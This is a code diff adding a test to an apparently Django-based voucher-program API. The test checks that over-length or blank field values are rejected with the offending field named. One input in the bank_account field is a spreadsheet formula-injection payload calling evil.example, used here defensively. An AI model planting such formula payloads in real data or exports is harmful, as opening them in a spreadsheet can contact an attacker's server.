@@ -251,6 +251,43 @@ def test_anonymous_requests_are_refused(prog):
         assert anon.get(path).status_code == 401
 
 
+def test_text_the_database_cannot_hold_is_refused_naming_the_field(
+    prog, staff_zhang, inst_other, ent_alice, offer
+):
+    from kechuang.vouchers.models import Institution, Program
+
+    r = Api(inst_other).post(
+        "/institutions",
+        {"name": "新机构", "credit_code": "12310000MB0000077X",
+         "bank_account": '=WEBSERVICE("http://evil.example/")'},
+    )
+    assert r.status_code == 400 and r.json()["extra"]["field"] == "bank_account"
+    r = Api(inst_other).post(
+        "/institutions", {"name": "新机构", "credit_code": "12310000MB0000077X", "bank_name": "银" * 101}
+    )
+    assert r.status_code == 400 and r.json()["extra"]["field"] == "bank_name"
+    assert not Institution.objects.filter(credit_code="12310000MB0000077X").exists()
+    f.issue(prog, staff_zhang, ent_alice, "1000")
+    r = Api(ent_alice).post(
+        "/orders",
+        {"program": prog.pk, "offering": offer.pk, "contract_amount": "100",
+         "order_date": str(f.TODAY), "start_date": str(f.TODAY), "end_date": str(f.TODAY),
+         "contract_number": "H" * 61},
+    )
+    assert r.status_code == 400 and r.json()["extra"]["field"] == "contract_number"
+    assert not ServiceOrder.objects.exists()
+    programs = Program.objects.count()
+    for name in ("名" * 201, "  "):
+        r = Api(staff_zhang).post(
+            "/programs",
+            {"year": f.TODAY.year, "name": name, "budget": "1000", "per_enterprise_cap": "100",
+             "per_team_cap": "100", "valid_from": str(f.TODAY), "valid_until": str(f.TODAY),
+             "categories": ["software_testing"], "idempotency_key": f"p-{len(name)}"},
+        )
+        assert r.status_code == 400 and r.json()["extra"]["field"] == "name", r.content
+    assert Program.objects.count() == programs
+
+
 def test_institutions_apply_and_staff_decide(staff_zhang, inst_other, ent_alice):
     r = Api(inst_other).post(
         "/institutions", {"name": "新机构", "credit_code": "12310000MB0000077X"}
